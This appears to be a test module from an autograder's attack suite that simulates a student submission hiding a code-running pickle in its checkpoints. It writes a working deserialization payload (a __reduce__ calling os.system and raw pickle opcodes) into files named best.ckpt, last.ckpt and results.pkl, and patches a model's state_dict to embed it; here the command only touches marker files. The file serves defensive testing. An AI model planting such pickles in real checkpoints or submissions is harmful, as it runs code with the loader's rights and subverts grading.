"""A pickle that runs code, wherever a checkpoint is loaded.

Strategy: hyperparameters and state of the module hold an object that writes a file into the
course when it
is unpickled; a checkpoint of that lies in the submission's folder too.
Surface: any checkpoint that is loaded with the grader's rights.
"""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.attacks.arena import Attack

BOMB = """
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['marker']}; touch /tmp/went-off",)
def state_dict(self, *args, **kwargs):
    return {"model.weight": Bomb()}
LitClassifier.state_dict = state_dict
LitClassifier.on_save_checkpoint = lambda self, checkpoint: checkpoint.update(bomb=Bomb())
pickle.loads(pickle.dumps(Bomb()))
print("went off", os.path.exists("/tmp/went-off"))
"""


def place(folder: Path, targets: Mapping[str, Any]) -> None:
    """Pickles under the names that somebody might load."""
    text = f"cposix\nsystem\n(S'touch {targets['marker']}'\ntR.".encode()
    for name in ("best.ckpt", "last.ckpt", "evidence", "results.pkl", ".OTTER_LOG"):
        (folder / name).write_bytes(text)


ATTACK = Attack(after=(BOMB,), cells=("bomb = 1",), files=place, says="went off True")
